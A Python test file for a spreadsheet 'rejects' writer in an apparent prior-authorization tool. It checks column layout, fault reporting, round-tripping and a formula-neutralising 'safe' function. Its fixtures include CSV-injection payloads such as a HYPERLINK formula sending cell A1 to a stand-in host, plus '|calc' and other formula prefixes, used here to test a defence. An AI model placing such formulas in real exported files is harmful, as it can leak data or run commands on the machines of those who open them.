"""The rejects file: mended and fed back."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from priorauth.spreadsheet.rejects import safe, write_rejects
from tests.priorauth.spreadsheet.tracker import GOOD, as_csv, read, read_bytes

BAD = GOOD | {"DOB": "13/45/1980", "Member ID": "SYN9", "Notes": '=HYPERLINK("http://x")\nline two'}


def _rows(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_file_has_the_columns_of_the_clinic_and_three_of_ours():
    data = write_rejects(read(GOOD, BAD))
    header, row = _rows(data)
    assert data.startswith(b"\xef\xbb\xbf")
    assert header == [*GOOD, "Row", "Column", "What is wrong"]
    assert row[:-3] == list(BAD.values())
    assert row[-3:-1] == ["3", "DOB"]
    assert row[-1].startswith("Impossible date of birth: 13/45/1980")


def test_several_faults_are_all_told():
    _, row = _rows(write_rejects(read(BAD | {"CPT": "9636S"})))
    assert row[-2] == "DOB; CPT"
    assert "9636S is not a procedure code" in row[-1]


def test_mended_and_fed_back_it_is_accepted():
    text = write_rejects(read(GOOD, BAD)).decode("utf-8-sig")
    again = read_bytes(text.replace("13/45/1980", "3/4/1980").encode())
    assert again.bad == []
    assert again.unknown_columns == ()
    (row,) = again.good
    assert row.note == '=HYPERLINK("http://x")\nline two'
    assert row.fingerprint == read(BAD | {"DOB": "3/4/1980"}).good[0].fingerprint


def test_fed_back_unmended_it_says_the_same_and_does_not_grow():
    reading = read(GOOD, BAD)
    once = read_bytes(write_rejects(reading))
    twice = read_bytes(write_rejects(once))
    assert once.header == twice.header == reading.header
    assert [bad.reasons for bad in twice.bad] == [bad.reasons for bad in reading.bad]
    assert [bad.cells for bad in twice.bad] == [bad.cells for bad in reading.bad]


def test_a_reject_whose_cells_were_all_cleared_is_no_row():
    header, _ = _rows(write_rejects(read(BAD)))
    cleared = dict.fromkeys(header, "") | {"Row": "3", "What is wrong": "text"}
    again = read_bytes(as_csv(cleared).encode())
    assert (again.good, again.bad) == ([], [])


def test_duplicates_are_still_duplicates_when_fed_back():
    again = read_bytes(write_rejects(read(BAD, BAD)))
    assert [bad.reason for bad in again.bad] == [
        "impossible date of birth",
        "exact duplicate of the row above",
    ]


def test_cells_beyond_the_heading_keep_a_place_of_their_own():
    text = as_csv(GOOD).rstrip() + ",spilled,over\r\n"
    data = write_rejects(read_bytes(text.encode()))
    header, row = _rows(data)
    assert header[-5:-3] == ["Extra cell 1", "Extra cell 2"]
    assert row[-5:-3] == ["spilled", "over"]
    again = read_bytes(data)
    assert again.bad[0].reason == "row longer than the heading"
    mended = data.decode("utf-8-sig").replace("spilled,over", ",").encode()
    assert len(read_bytes(mended).good) == 1
    assert read_bytes(mended).unknown_columns == ()


def test_a_reading_without_rejects_gives_a_heading_only():
    assert len(_rows(write_rejects(read(GOOD)))) == 1


FORMULAS = [
    '=HYPERLINK("http://x/"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\uff1d1+1",
    "\uff0b1",
    "|calc",
    "%1",
    "\t=1",
    "\r=1",
    " =1",
    "\n=1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_safe_form_makes_no_live_formula(formula):
    assert safe(formula) == f"'{formula}"
    _, row = _rows(write_rejects(read(BAD | {"Notes": formula}), is_spreadsheet_safe=True))
    assert row[list(GOOD).index("Notes")].startswith("'") or not formula.strip(
        "\t\r\n "
    ).startswith(tuple("=+-@|%\uff1d\uff0b"))


@pytest.mark.parametrize("text", ["", "plain", "O'Brien", "1/2/2026", "'quoted'", "F33.2"])
def test_the_safe_form_leaves_other_cells_alone(text):
    assert safe(text) == text


def test_the_safe_form_reads_back_the_same():
    data = write_rejects(read(BAD), is_spreadsheet_safe=True).decode("utf-8-sig")
    (row,) = read_bytes(data.replace("13/45/1980", "3/4/1980").encode()).good
    assert row.note == '=HYPERLINK("http://x")\nline two'


CELL = st.text(
    st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufeff"), max_size=30
).map(str.strip)


@settings(max_examples=50, deadline=None)
@given(CELL, CELL, CELL)
def test_whatever_the_cells_hold_they_come_back_as_they_were(one, two, three):
    row = BAD | {"Rep": one, "Call Ref": two, "Denial Reason": three, "Notes": "end"}
    reading = read(row)
    again = read_bytes(write_rejects(reading))
    assert again.bad[0].cells == reading.bad[0].cells == tuple(row.values())
